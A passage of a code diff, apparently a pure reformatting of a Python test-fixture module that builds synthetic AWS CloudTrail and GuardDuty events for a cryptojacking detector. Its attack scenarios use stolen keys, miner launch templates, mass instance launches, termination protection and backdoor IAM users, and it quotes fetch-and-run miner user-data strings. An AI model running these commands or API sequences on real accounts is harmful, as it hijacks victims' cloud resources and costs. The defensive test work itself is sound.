@@ -19,35 +19,66 @@ ALLOWED_REGIONS = ("ap-northeast-1", "us-east-1")
 ATTACKER_IP = "13.208.251.175"  # seed 004
 BOTO3_UA = "Boto3/1.34.49 md/Botocore#1.34.49 ua/2.0 os/linux#6.2.0-1017-aws lang/python#3.10.12 Botocore/1.34.49"
 CONSOLE_UA = "AWS Internal"
-STOLEN_USER = {"type": "IAMUser", "principalId": "AIDAEXAMPLESTOLEN", "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-deploy",
-               "accountId": ACCOUNT, "accessKeyId": "AKIAEXAMPLESTOLEN1", "userName": "ci-deploy"}
+STOLEN_USER = {
+    "type": "IAMUser",
+    "principalId": "AIDAEXAMPLESTOLEN",
+    "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-deploy",
+    "accountId": ACCOUNT,
+    "accessKeyId": "AKIAEXAMPLESTOLEN1",
+    "userName": "ci-deploy",
+}
 COMPROMISED_ROLE = {
-    "type": "AssumedRole", "principalId": "AROAEXAMPLE:i-0abc", "accountId": ACCOUNT,
-    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/web-app-instance/i-0abc", "accessKeyId": "ASIAEXAMPLEWEB",
-    "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/web-app-instance"}}}
+    "type": "AssumedRole",
+    "principalId": "AROAEXAMPLE:i-0abc",
+    "accountId": ACCOUNT,
+    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/web-app-instance/i-0abc",
+    "accessKeyId": "ASIAEXAMPLEWEB",
+    "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/web-app-instance"}},
+}
 PIPELINE_ROLE = {
-    "type": "AssumedRole", "principalId": "AROAPIPELINE:deploy", "accountId": ACCOUNT,
-    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/github-deploy/deploy-42", "accessKeyId": "ASIAPIPELINE",
-    "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/github-deploy"}}}
+    "type": "AssumedRole",
+    "principalId": "AROAPIPELINE:deploy",
+    "accountId": ACCOUNT,
+    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/github-deploy/deploy-42",
+    "accessKeyId": "ASIAPIPELINE",
+    "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/github-deploy"}},
+}
 ADMIN_ROLE = {
-    "type": "AssumedRole", "principalId": "AROAADMIN:alice", "accountId": ACCOUNT,
+    "type": "AssumedRole",
+    "principalId": "AROAADMIN:alice",
+    "accountId": ACCOUNT,
     "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSReservedSSO_AdministratorAccess_abc/alice",
     "accessKeyId": "ASIAADMIN",
-    "sessionContext": {"sessionIssuer": {"type": "Role",
-                                         "arn": f"arn:aws:iam::{ACCOUNT}:role/AWSReservedSSO_AdministratorAccess_abc"}}}
+    "sessionContext": {
+        "sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/AWSReservedSSO_AdministratorAccess_abc"}
+    },
+}
 AUTOSCALING_ROLE = {
-    "type": "AssumedRole", "principalId": "AROAASG:AutoScaling", "accountId": ACCOUNT, "invokedBy": "autoscaling.amazonaws.com",
+    "type": "AssumedRole",
+    "principalId": "AROAASG:AutoScaling",
+    "accountId": ACCOUNT,
+    "invokedBy": "autoscaling.amazonaws.com",
     "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSServiceRoleForAutoScaling/AutoScaling",
-    "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/aws-service-role/"
-                                         "autoscaling.amazonaws.com/AWSServiceRoleForAutoScaling"}}}
+    "sessionContext": {
+        "sessionIssuer": {
+            "type": "Role",
+            "arn": f"arn:aws:iam::{ACCOUNT}:role/aws-service-role/"
+            "autoscaling.amazonaws.com/AWSServiceRoleForAutoScaling",
+        }
+    },
+}
 
-SEED_002_MINER = ("#!/bin/bash\ncd /tmp && wget -q https://example.invalid/run.sh && chmod +x run.sh\n"
-                  "./SRBMiner-MULTI --algorithm randomvirel --pool asia.rplant.xyz:17155 "
-                  "--wallet x --cpu-threads $(nproc --all)\n")
-SEED_004_MESON = ("wget 'https://staticassets.meson.network/public/meson_cdn/v3.1.20/meson_cdn-linux-amd64.tar.gz' "
-                  "&& tar -zxf meson_cdn-linux-amd64.tar.gz && cd ./meson_cdn-linux-amd64 && sudo ./service install "
-                  "meson_cdn\nsudo ./meson_cdn config set --token=**** --https_port=443 --cache.size=30\n"
-                  "sudo ./service start meson_cdn")
+SEED_002_MINER = (
+    "#!/bin/bash\ncd /tmp && wget -q https://example.invalid/run.sh && chmod +x run.sh\n"
+    "./SRBMiner-MULTI --algorithm randomvirel --pool asia.rplant.xyz:17155 "
+    "--wallet x --cpu-threads $(nproc --all)\n"
+)
+SEED_004_MESON = (
+    "wget 'https://staticassets.meson.network/public/meson_cdn/v3.1.20/meson_cdn-linux-amd64.tar.gz' "
+    "&& tar -zxf meson_cdn-linux-amd64.tar.gz && cd ./meson_cdn-linux-amd64 && sudo ./service install "
+    "meson_cdn\nsudo ./meson_cdn config set --token=**** --https_port=443 --cache.size=30\n"
+    "sudo ./service start meson_cdn"
+)
 BENIGN_USER_DATA = "#!/bin/bash\nyum install -y amazon-cloudwatch-agent nginx\nsystemctl enable --now nginx\n"
 
 
@@ -74,16 +105,38 @@ def _event_id(seed: str) -> str:
     return str(uuid.uuid5(uuid.NAMESPACE_URL, f"cryptoguard/{seed}/{next(_ids)}"))
 
 
-def cloudtrail(clock: Clock, name: str, service: str, params: dict | None = None, *, region: str,
-               identity: dict, error: str | None = None, response: dict | None = None, read_only: bool = False,
-               ip: str = ATTACKER_IP, agent: str = BOTO3_UA) -> dict:
+def cloudtrail(
+    clock: Clock,
+    name: str,
+    service: str,
+    params: dict | None = None,
+    *,
+    region: str,
+    identity: dict,
+    error: str | None = None,
+    response: dict | None = None,
+    read_only: bool = False,
+    ip: str = ATTACKER_IP,
+    agent: str = BOTO3_UA,
+) -> dict:
     record = {
-        "eventVersion": "1.09", "userIdentity": identity, "eventTime": clock.tick(),
-        "eventSource": f"{service}.amazonaws.com", "eventName": name, "awsRegion": region,
-        "sourceIPAddress": identity.get("invokedBy") or ip, "userAgent": identity.get("invokedBy") or agent,
-        "requestParameters": params or {}, "responseElements": response, "requestID": str(uuid.uuid4()),
-        "eventID": _event_id(name), "readOnly": read_only, "eventType": "AwsApiCall", "managementEvent": True,
-        "recipientAccountId": ACCOUNT, "eventCategory": "Management",
+        "eventVersion": "1.09",
+        "userIdentity": identity,
+        "eventTime": clock.tick(),
+        "eventSource": f"{service}.amazonaws.com",
+        "eventName": name,
+        "awsRegion": region,
+        "sourceIPAddress": identity.get("invokedBy") or ip,
+        "userAgent": identity.get("invokedBy") or agent,
+        "requestParameters": params or {},
+        "responseElements": response,
+        "requestID": str(uuid.uuid4()),
+        "eventID": _event_id(name),
+        "readOnly": read_only,
+        "eventType": "AwsApiCall",
+        "managementEvent": True,
+        "recipientAccountId": ACCOUNT,
+        "eventCategory": "Management",
     }
     if error:
         record["errorCode"] = error
@@ -93,24 +146,52 @@ def cloudtrail(clock: Clock, name: str, service: str, params: dict | None = None
 
 def eventbridge(record: dict) -> dict:
     """The event EventBridge puts on the default bus of the record's region."""
-    return {"version": "0", "id": str(uuid.uuid4()), "detail-type": "AWS API Call via CloudTrail",
-            "source": "aws." + record["eventSource"].split(".")[0], "account": record["recipientAccountId"],
-            "time": record["eventTime"], "region": record["awsRegion"], "resources": [], "detail": record}
+    return {
+        "version": "0",
+        "id": str(uuid.uuid4()),
+        "detail-type": "AWS API Call via CloudTrail",
+        "source": "aws." + record["eventSource"].split(".")[0],
+        "account": record["recipientAccountId"],
+        "time": record["eventTime"],
+        "region": record["awsRegion"],
+        "resources": [],
+        "detail": record,
+    }
 
 
-def guardduty_finding(clock: Clock, finding_type: str, severity: float, region: str, title: str,
-                      resource_type: str = "Instance") -> dict:
+def guardduty_finding(
+    clock: Clock, finding_type: str, severity: float, region: str, title: str, resource_type: str = "Instance"
+) -> dict:
     now = clock.tick()
     finding = {
-        "schemaVersion": "2.0", "accountId": ACCOUNT, "region": region, "partition": "aws",
-        "id": uuid.uuid5(uuid.NAMESPACE_URL, f"gd/{finding_type}/{now}").hex, "type": finding_type,
-        "severity": severity, "title": title, "description": title, "createdAt": now, "updatedAt": now,
-        "resource": {"resourceType": resource_type,
-                     "instanceDetails": {"instanceId": "i-0miner00000000001", "instanceType": "c5.4xlarge"}},
+        "schemaVersion": "2.0",
+        "accountId": ACCOUNT,
+        "region": region,
+        "partition": "aws",
+        "id": uuid.uuid5(uuid.NAMESPACE_URL, f"gd/{finding_type}/{now}").hex,
+        "type": finding_type,
+        "severity": severity,
+        "title": title,
+        "description": title,
+        "createdAt": now,
+        "updatedAt": now,
+        "resource": {
+            "resourceType": resource_type,
+            "instanceDetails": {"instanceId": "i-0miner00000000001", "instanceType": "c5.4xlarge"},
+        },
         "service": {"serviceName": "guardduty", "count": 1, "action": {"actionType": "DNS_REQUEST"}},
     }
-    return {"version": "0", "id": str(uuid.uuid4()), "detail-type": "GuardDuty Finding", "source": "aws.guardduty",
-            "account": ACCOUNT, "time": now, "region": region, "resources": [], "detail": finding}
+    return {
+        "version": "0",
+        "id": str(uuid.uuid4()),
+        "detail-type": "GuardDuty Finding",
+        "source": "aws.guardduty",
+        "account": ACCOUNT,
+        "time": now,
+        "region": region,
+        "resources": [],
+        "detail": finding,
+    }
 
 
 @dataclass
@@ -136,18 +217,34 @@ class Scenario:
         return [e["detail"] for e in self.events() if e["detail-type"] == "AWS API Call via CloudTrail"]
 
 
-def _run_instances(clock: Clock, region: str, identity: dict, count: int, instance_type: str,
-                   user_data: str | None = None, **kw: Any) -> dict:
-    params: dict[str, Any] = {"instancesSet": {"items": [{"imageId": "ami-0a2e7efb4257c0907", "minCount": count,
-                                                          "maxCount": count}]},
-                              "instanceType": instance_type, "monitoring": {"enabled": False}}
+def _run_instances(
+    clock: Clock, region: str, identity: dict, count: int, instance_type: str, user_data: str | None = None, **kw: Any
+) -> dict:
+    params: dict[str, Any] = {
+        "instancesSet": {"items": [{"imageId": "ami-0a2e7efb4257c0907", "minCount": count, "maxCount": count}]},
+        "instanceType": instance_type,
+        "monitoring": {"enabled": False},
+    }
     if user_data is not None:
         params["userData"] = b64(user_data)
     error = kw.pop("error", None)
-    response = None if error else {"instancesSet": {"items": [
-        {"instanceId": f"i-{uuid.uuid4().hex[:17]}", "instanceType": instance_type} for _ in range(min(count, 3))]}}
-    return eventbridge(cloudtrail(clock, "RunInstances", "ec2", params, region=region, identity=identity,
-                                  error=error, response=response, **kw))
+    response = (
+        None
+        if error
+        else {
+            "instancesSet": {
+                "items": [
+                    {"instanceId": f"i-{uuid.uuid4().hex[:17]}", "instanceType": instance_type}
+                    for _ in range(min(count, 3))
+                ]
+            }
+        }
+    )
+    return eventbridge(
+        cloudtrail(
+            clock, "RunInstances", "ec2", params, region=region, identity=identity, error=error, response=response, **kw
+        )
+    )
 
 
 def nov2025_campaign() -> Scenario:
@@ -161,77 +258,215 @@ def nov2025_campaign() -> Scenario:
         return eventbridge(cloudtrail(c, name, service, params, region=kw.pop("region", r), identity=u, **kw))
 
     quota = {"serviceCode": "ec2", "quotaCode": "L-1216C47A"}
-    task = {"family": "secret-user", "requiresCompatibilities": ["FARGATE"], "networkMode": "awsvpc",
-            "cpu": "16384", "memory": "32768",
-            "containerDefinitions": [{"name": "secret", "image": "yenik65958/secret:user", "cpu": 0,
-                                      "essential": True, "command": ["sh", "run.sh"]}]}
-    template = {"CreateLaunchTemplateRequest": {"LaunchTemplateName": "lt-g1", "LaunchTemplateData": {
-        "ImageId": "ami-0a2e7efb4257c0907", "InstanceType": "g4dn.xlarge", "UserData": b64(SEED_002_MINER)}}}
+    task = {
+        "family": "secret-user",
+        "requiresCompatibilities": ["FARGATE"],
+        "networkMode": "awsvpc",
+        "cpu": "16384",
+        "memory": "32768",
+        "containerDefinitions": [
+            {
+                "name": "secret",
+                "image": "yenik65958/secret:user",
+                "cpu": 0,
+                "essential": True,
+                "command": ["sh", "run.sh"],
+            }
+        ],
+    }
+    template = {
+        "CreateLaunchTemplateRequest": {
+            "LaunchTemplateName": "lt-g1",
+            "LaunchTemplateData": {
+                "ImageId": "ami-0a2e7efb4257c0907",
+                "InstanceType": "g4dn.xlarge",
+                "UserData": b64(SEED_002_MINER),
+            },
+        }
+    }
 
     def asg(name: str, types: list[str], on_demand: int) -> dict:
-        return {"autoScalingGroupName": name, "minSize": 20, "maxSize": 999, "desiredCapacity": 20,
-                "mixedInstancesPolicy": {
-                    "launchTemplate": {"launchTemplateSpecification": {"launchTemplateName": "lt-g1"},
-                                       "overrides": [{"instanceType": t} for t in types]},
-                    "instancesDistribution": {"onDemandPercentageAboveBaseCapacity": on_demand,
-                                              "spotAllocationStrategy": "capacity-optimized"}}}
+        return {
+            "autoScalingGroupName": name,
+            "minSize": 20,
+            "maxSize": 999,
+            "desiredCapacity": 20,
+            "mixedInstancesPolicy": {
+                "launchTemplate": {
+                    "launchTemplateSpecification": {"launchTemplateName": "lt-g1"},
+                    "overrides": [{"instanceType": t} for t in types],
+                },
+                "instancesDistribution": {
+                    "onDemandPercentageAboveBaseCapacity": on_demand,
+                    "spotAllocationStrategy": "capacity-optimized",
+                },
+            },
+        }
 
     s = Scenario("nov2025_ecs_ec2", "Nov-2025 EC2/ECS campaign with termination protection", "002", True)
     s.steps += [
-        Step("GetServiceQuota x3 (EC2 vCPU quotas)", "002: recon, GetServiceQuota",
-             [ct("GetServiceQuota", "servicequotas", quota, read_only=True) for _ in range(3)], ("CG-RECON-002",)),
-        Step("RunInstances with DryRun x2", "002: recon, RunInstances DryRun",
-             [_run_instances(c, r, u, 1, "p3.2xlarge", error="Client.DryRunOperation") for _ in range(2)],
-             ("CG-RECON-001",)),
-        Step("CreateCluster x6", "002: dozens of ECS clusters",
-             [ct("CreateCluster", "ecs", {"clusterName": f"secret-{i}"}) for i in range(6)], ("CG-ECS-005",)),
-        Step("RegisterTaskDefinition 16 vCPU, yenik65958/secret:user", "002: RegisterTaskDefinition cpu 16384",
-             [ct("RegisterTaskDefinition", "ecs", task)], ("CG-ECS-001", "CG-ECS-002", "CG-CHAIN-001")),
-        Step("CreateService desiredCount 10 on Fargate", "002: CreateService desired 10",
-             [ct("CreateService", "ecs", {"cluster": "secret-0", "serviceName": "secret", "desiredCount": 10,
-                                          "taskDefinition": "secret-user:1", "launchType": "FARGATE"})],
-             ("CG-ECS-004",)),
-        Step("CreateLaunchTemplate with miner user data", "002: CreateLaunchTemplate UserData",
-             [ct("CreateLaunchTemplate", "ec2", template)], ("CG-PAYLOAD-001", "CG-LAUNCH-002")),
-        Step("CreateAutoScalingGroup SPOT-...-G1 max 999 (GPU spot)", "002: spot ASG g4dn/g5/p3/p4d/inf1",
-             [ct("CreateAutoScalingGroup", "autoscaling",
-                 asg("SPOT-us-east-1-G1-a1b2", ["g4dn.xlarge", "g5.xlarge", "p3.2xlarge", "p4d.24xlarge",
-                                                "inf1.xlarge"], 0))],
-             ("CG-ASG-001", "CG-LAUNCH-002")),
-        Step("CreateAutoScalingGroup OD-...-G1 max 999 (compute on-demand)", "002: on-demand ASG c5/m5/r5",
-             [ct("CreateAutoScalingGroup", "autoscaling",
-                 asg("OD-us-east-1-G1-c3d4", ["c5.4xlarge", "c6i.4xlarge", "r5.4xlarge", "m5.4xlarge"], 100))],
-             ("CG-ASG-001",)),
-        Step("RunInstances x20 c5.4xlarge (remaining quota)", "002: RunInstances after ASG quota",
-             [_run_instances(c, r, u, 20, "c5.4xlarge", SEED_002_MINER)],
-             ("CG-LAUNCH-001", "CG-PAYLOAD-001", "CG-CHAIN-001")),
-        Step("ModifyInstanceAttribute disableApiTermination=true x6", "002: termination protection",
-             [ct("ModifyInstanceAttribute", "ec2", {"instanceId": f"i-0miner0000000000{i}",
-                                                    "disableApiTermination": {"value": True}}) for i in range(6)],
-             ("CG-PERSIST-001",)),
-        Step("CreateFunctionUrlConfig AuthType NONE", "002: public Lambda function URL",
-             [ct("CreateFunctionUrlConfig20211031", "lambda", {"functionName": "backup-sync", "authType": "NONE"},
-                 response={"functionUrl": "https://abc.lambda-url.us-east-1.on.aws/", "authType": "NONE"})],
-             ("CG-LAMBDA-001",)),
-        Step("AddPermission principal *", "002: AddPermission for everyone",
-             [ct("AddPermission20150331v2", "lambda", {"functionName": "backup-sync", "statementId": "url",
-                                                       "action": "lambda:InvokeFunctionUrl", "principal": "*",
-                                                       "functionUrlAuthType": "NONE"})],
-             ("CG-LAMBDA-002",)),
-        Step("CreateUser, AttachUserPolicy SES, CreateAccessKey, CreateLoginProfile", "002: IAM user persistence",
-             [ct("CreateUser", "iam", {"userName": "user-x1x2x3x4"}),
-              ct("AttachUserPolicy", "iam", {"userName": "user-x1x2x3x4",
-                                             "policyArn": "arn:aws:iam::aws:policy/AmazonSESFullAccess"}),
-              ct("CreateAccessKey", "iam", {"userName": "user-x1x2x3x4"}),
-              ct("CreateLoginProfile", "iam", {"userName": "user-x1x2x3x4", "passwordResetRequired": False})],
-             ("CG-IAM-001",)),
-        Step("GuardDuty: Impact:Runtime/CryptoMinerExecuted", "002: Runtime Monitoring finding",
-             [guardduty_finding(c, "Impact:Runtime/CryptoMinerExecuted", 8.0, r, "Crypto miner executed")],
-             ("CG-GD-001",)),
-        Step("GuardDuty: AttackSequence:EC2/CompromisedInstanceGroup", "002: Extended Threat Detection",
-             [guardduty_finding(c, "AttackSequence:EC2/CompromisedInstanceGroup", 9.0, r,
-                                "Potential compromised instance group", "Instance")],
-             ("CG-GD-001",)),
+        Step(
+            "GetServiceQuota x3 (EC2 vCPU quotas)",
+            "002: recon, GetServiceQuota",
+            [ct("GetServiceQuota", "servicequotas", quota, read_only=True) for _ in range(3)],
+            ("CG-RECON-002",),
+        ),
+        Step(
+            "RunInstances with DryRun x2",
+            "002: recon, RunInstances DryRun",
+            [_run_instances(c, r, u, 1, "p3.2xlarge", error="Client.DryRunOperation") for _ in range(2)],
+            ("CG-RECON-001",),
+        ),
+        Step(
+            "CreateCluster x6",
+            "002: dozens of ECS clusters",
+            [ct("CreateCluster", "ecs", {"clusterName": f"secret-{i}"}) for i in range(6)],
+            ("CG-ECS-005",),
+        ),
+        Step(
+            "RegisterTaskDefinition 16 vCPU, yenik65958/secret:user",
+            "002: RegisterTaskDefinition cpu 16384",
+            [ct("RegisterTaskDefinition", "ecs", task)],
+            ("CG-ECS-001", "CG-ECS-002", "CG-CHAIN-001"),
+        ),
+        Step(
+            "CreateService desiredCount 10 on Fargate",
+            "002: CreateService desired 10",
+            [
+                ct(
+                    "CreateService",
+                    "ecs",
+                    {
+                        "cluster": "secret-0",
+                        "serviceName": "secret",
+                        "desiredCount": 10,
+                        "taskDefinition": "secret-user:1",
+                        "launchType": "FARGATE",
+                    },
+                )
+            ],
+            ("CG-ECS-004",),
+        ),
+        Step(
+            "CreateLaunchTemplate with miner user data",
+            "002: CreateLaunchTemplate UserData",
+            [ct("CreateLaunchTemplate", "ec2", template)],
+            ("CG-PAYLOAD-001", "CG-LAUNCH-002"),
+        ),
+        Step(
+            "CreateAutoScalingGroup SPOT-...-G1 max 999 (GPU spot)",
+            "002: spot ASG g4dn/g5/p3/p4d/inf1",
+            [
+                ct(
+                    "CreateAutoScalingGroup",
+                    "autoscaling",
+                    asg(
+                        "SPOT-us-east-1-G1-a1b2",
+                        ["g4dn.xlarge", "g5.xlarge", "p3.2xlarge", "p4d.24xlarge", "inf1.xlarge"],
+                        0,
+                    ),
+                )
+            ],
+            ("CG-ASG-001", "CG-LAUNCH-002"),
+        ),
+        Step(
+            "CreateAutoScalingGroup OD-...-G1 max 999 (compute on-demand)",
+            "002: on-demand ASG c5/m5/r5",
+            [
+                ct(
+                    "CreateAutoScalingGroup",
+                    "autoscaling",
+                    asg("OD-us-east-1-G1-c3d4", ["c5.4xlarge", "c6i.4xlarge", "r5.4xlarge", "m5.4xlarge"], 100),
+                )
+            ],
+            ("CG-ASG-001",),
+        ),
+        Step(
+            "RunInstances x20 c5.4xlarge (remaining quota)",
+            "002: RunInstances after ASG quota",
+            [_run_instances(c, r, u, 20, "c5.4xlarge", SEED_002_MINER)],
+            ("CG-LAUNCH-001", "CG-PAYLOAD-001", "CG-CHAIN-001"),
+        ),
+        Step(
+            "ModifyInstanceAttribute disableApiTermination=true x6",
+            "002: termination protection",
+            [
+                ct(
+                    "ModifyInstanceAttribute",
+                    "ec2",
+                    {"instanceId": f"i-0miner0000000000{i}", "disableApiTermination": {"value": True}},
+                )
+                for i in range(6)
+            ],
+            ("CG-PERSIST-001",),
+        ),
+        Step(
+            "CreateFunctionUrlConfig AuthType NONE",
+            "002: public Lambda function URL",
+            [
+                ct(
+                    "CreateFunctionUrlConfig20211031",
+                    "lambda",
+                    {"functionName": "backup-sync", "authType": "NONE"},
+                    response={"functionUrl": "https://abc.lambda-url.us-east-1.on.aws/", "authType": "NONE"},
+                )
+            ],
+            ("CG-LAMBDA-001",),
+        ),
+        Step(
+            "AddPermission principal *",
+            "002: AddPermission for everyone",
+            [
+                ct(
+                    "AddPermission20150331v2",
+                    "lambda",
+                    {
+                        "functionName": "backup-sync",
+                        "statementId": "url",
+                        "action": "lambda:InvokeFunctionUrl",
+                        "principal": "*",
+                        "functionUrlAuthType": "NONE",
+                    },
+                )
+            ],
+            ("CG-LAMBDA-002",),
+        ),
+        Step(
+            "CreateUser, AttachUserPolicy SES, CreateAccessKey, CreateLoginProfile",
+            "002: IAM user persistence",
+            [
+                ct("CreateUser", "iam", {"userName": "user-x1x2x3x4"}),
+                ct(
+                    "AttachUserPolicy",
+                    "iam",
+                    {"userName": "user-x1x2x3x4", "policyArn": "arn:aws:iam::aws:policy/AmazonSESFullAccess"},
+                ),
+                ct("CreateAccessKey", "iam", {"userName": "user-x1x2x3x4"}),
+                ct("CreateLoginProfile", "iam", {"userName": "user-x1x2x3x4", "passwordResetRequired": False}),
+            ],
+            ("CG-IAM-001",),
+        ),
+        Step(
+            "GuardDuty: Impact:Runtime/CryptoMinerExecuted",
+            "002: Runtime Monitoring finding",
+            [guardduty_finding(c, "Impact:Runtime/CryptoMinerExecuted", 8.0, r, "Crypto miner executed")],
+            ("CG-GD-001",),
+        ),
+        Step(
+            "GuardDuty: AttackSequence:EC2/CompromisedInstanceGroup",
+            "002: Extended Threat Detection",
+            [
+                guardduty_finding(
+                    c,
+                    "AttackSequence:EC2/CompromisedInstanceGroup",
+                    9.0,
+                    r,
+                    "Potential compromised instance group",
+                    "Instance",
+                )
+            ],
+            ("CG-GD-001",),
+        ),
     ]
     return s
 
@@ -244,18 +479,43 @@ def meson_campaign() -> Scenario:
     regions = ["us-west-2", "eu-west-1", "ap-southeast-1", "sa-east-1"]
     s = Scenario("meson_cdn", "Meson CDN: 500 x t2.micro per region, low CPU", "004", True)
     for region in regions:
-        s.steps.append(Step(f"RunInstances minCount 500 t2.micro in {region}", "004: 500 micro per region",
-                            [_run_instances(c, region, u, 500, "t2.micro", SEED_004_MESON)],
-                            ("CG-LAUNCH-001", "CG-REGION-001", "CG-PAYLOAD-001", "CG-LAUNCH-003")))
+        s.steps.append(
+            Step(
+                f"RunInstances minCount 500 t2.micro in {region}",
+                "004: 500 micro per region",
+                [_run_instances(c, region, u, 500, "t2.micro", SEED_004_MESON)],
+                ("CG-LAUNCH-001", "CG-REGION-001", "CG-PAYLOAD-001", "CG-LAUNCH-003"),
+            )
+        )
     s.steps[2].expect += ("CG-LAUNCH-004",)  # the third region within the window makes it multi-region
     s.steps += [
-        Step("AllocateAddress x10", "004: public IPv4 addresses ($22,000/month at 6,000 nodes)",
-             [eventbridge(cloudtrail(c, "AllocateAddress", "ec2", {"domain": "vpc"}, region="us-west-2", identity=u))
-              for _ in range(10)], ("CG-NET-001",)),
-        Step("CreateVolume x20", "004: storage for the CDN cache",
-             [eventbridge(cloudtrail(c, "CreateVolume", "ec2", {"size": 100, "volumeType": "gp3",
-                                                                "availabilityZone": "us-west-2a"},
-                                     region="us-west-2", identity=u)) for _ in range(20)], ("CG-STORAGE-001",)),
+        Step(
+            "AllocateAddress x10",
+            "004: public IPv4 addresses ($22,000/month at 6,000 nodes)",
+            [
+                eventbridge(cloudtrail(c, "AllocateAddress", "ec2", {"domain": "vpc"}, region="us-west-2", identity=u))
+                for _ in range(10)
+            ],
+            ("CG-NET-001",),
+        ),
+        Step(
+            "CreateVolume x20",
+            "004: storage for the CDN cache",
+            [
+                eventbridge(
+                    cloudtrail(
+                        c,
+                        "CreateVolume",
+                        "ec2",
+                        {"size": 100, "volumeType": "gp3", "availabilityZone": "us-west-2a"},
+                        region="us-west-2",
+                        identity=u,
+                    )
+                )
+                for _ in range(20)
+            ],
+            ("CG-STORAGE-001",),
+        ),
     ]
     return s
 
@@ -265,11 +525,22 @@ def unused_region_gpu() -> Scenario:
     c = Clock("2021-12-10T03:00:00Z")
     s = Scenario("unused_region_gpu", "GPU instance in an unused region (leaked access key)", "000", True)
     s.steps += [
-        Step("RunInstances p3.16xlarge in sa-east-1", "000: p3.16xlarge in an overseas region",
-             [_run_instances(c, "sa-east-1", STOLEN_USER, 1, "p3.16xlarge")], ("CG-REGION-001", "CG-LAUNCH-002")),
-        Step("GuardDuty: CryptoCurrency:EC2/BitcoinTool.B!DNS", "000: GuardDuty BitcoinTool finding",
-             [guardduty_finding(c, "CryptoCurrency:EC2/BitcoinTool.B!DNS", 8.0, "sa-east-1",
-                                "Bitcoin-related domain queried")], ("CG-GD-001",)),
+        Step(
+            "RunInstances p3.16xlarge in sa-east-1",
+            "000: p3.16xlarge in an overseas region",
+            [_run_instances(c, "sa-east-1", STOLEN_USER, 1, "p3.16xlarge")],
+            ("CG-REGION-001", "CG-LAUNCH-002"),
+        ),
+        Step(
+            "GuardDuty: CryptoCurrency:EC2/BitcoinTool.B!DNS",
+            "000: GuardDuty BitcoinTool finding",
+            [
+                guardduty_finding(
+                    c, "CryptoCurrency:EC2/BitcoinTool.B!DNS", 8.0, "sa-east-1", "Bitcoin-related domain queried"
+                )
+            ],
+            ("CG-GD-001",),
+        ),
     ]
     return s
 
@@ -280,48 +551,174 @@ def benign_scenarios() -> list[Scenario]:
     p = PIPELINE_ROLE
 
     def ct(name: str, service: str, params: dict, identity: dict = p, region: str = tokyo, **kw: Any) -> dict:
-        return eventbridge(cloudtrail(c, name, service, params, region=region, identity=identity,
-                                      ip="140.82.112.3", agent="aws-cli/2.17.0", **kw))
+        return eventbridge(
+            cloudtrail(
+                c,
+                name,
+                service,
+                params,
+                region=region,
+                identity=identity,
+                ip="140.82.112.3",
+                agent="aws-cli/2.17.0",
+                **kw,
+            )
+        )
 
-    deploy = Scenario("deploy_in_allowed_region", "A service deploy in Tokyo", "-", False, [
-        Step("RunInstances 2 x m5.large", "-", [_run_instances(c, tokyo, p, 2, "m5.large", BENIGN_USER_DATA,
-                                                               ip="140.82.112.3", agent="aws-cli/2.17.0")]),
-        Step("CreateLaunchTemplate + ASG max 10", "-", [
-            ct("CreateLaunchTemplate", "ec2", {"CreateLaunchTemplateRequest": {"LaunchTemplateName": "web", "LaunchTemplateData": {
-                "InstanceType": "m5.large", "UserData": b64(BENIGN_USER_DATA)}}}),
-            ct("CreateAutoScalingGroup", "autoscaling", {"autoScalingGroupName": "web", "minSize": 2, "maxSize": 10,
-                                                         "desiredCapacity": 2})]),
-        Step("ECS task 1 vCPU from ECR + service of 3", "-", [
-            ct("RegisterTaskDefinition", "ecs", {"family": "api", "cpu": "1024", "memory": "2048", "containerDefinitions": [
-                {"name": "api", "image": f"{ACCOUNT}.dkr.ecr.ap-northeast-1.amazonaws.com/api:1.4.2"}]}),
-            ct("CreateService", "ecs", {"serviceName": "api", "cluster": "prod", "desiredCount": 3})]),
-        Step("Lambda URL with AWS_IAM + S3 permission", "-", [
-            ct("CreateFunctionUrlConfig20211031", "lambda", {"functionName": "hook", "authType": "AWS_IAM"}),
-            ct("AddPermission20150331v2", "lambda", {"functionName": "hook", "principal": "s3.amazonaws.com",
-                                                     "action": "lambda:InvokeFunction", "statementId": "s3"})]),
-    ])
-    scale_out = Scenario("autoscaling_scale_out", "Auto Scaling adds instances for a service", "-", False, [
-        Step("RunInstances x4 by Auto Scaling (5 calls)", "-",
-             [_run_instances(c, tokyo, AUTOSCALING_ROLE, 4, "m5.large") for _ in range(5)]),
-    ])
-    pipeline = Scenario("ci_pipeline", "CI pipeline rolling out new task definitions", "-", False, [
-        Step("RegisterTaskDefinition x3 + UpdateService desired 4", "-",
-             [ct("RegisterTaskDefinition", "ecs", {"family": "worker", "cpu": "2048", "memory": "4096",
-                                                   "containerDefinitions": [{"name": "w", "image": "public.ecr.aws/docker/library/python:3.13"}]})
-              for _ in range(3)] + [ct("UpdateService", "ecs", {"service": "worker", "desiredCount": 4})]),
-        Step("CreateVolume x2 for a build cache", "-",
-             [ct("CreateVolume", "ec2", {"size": 50, "availabilityZone": "ap-northeast-1a"}) for _ in range(2)]),
-    ])
-    admin = Scenario("admin_creates_user", "An administrator creates one console user", "-", False, [
-        Step("CreateUser, CreateLoginProfile, AddUserToGroup", "-", [
-            ct("CreateUser", "iam", {"userName": "hanako"}, identity=ADMIN_ROLE, region="us-east-1"),
-            ct("CreateLoginProfile", "iam", {"userName": "hanako", "passwordResetRequired": True},
-               identity=ADMIN_ROLE, region="us-east-1"),
-            ct("AddUserToGroup", "iam", {"userName": "hanako", "groupName": "developers"}, identity=ADMIN_ROLE,
-               region="us-east-1")]),
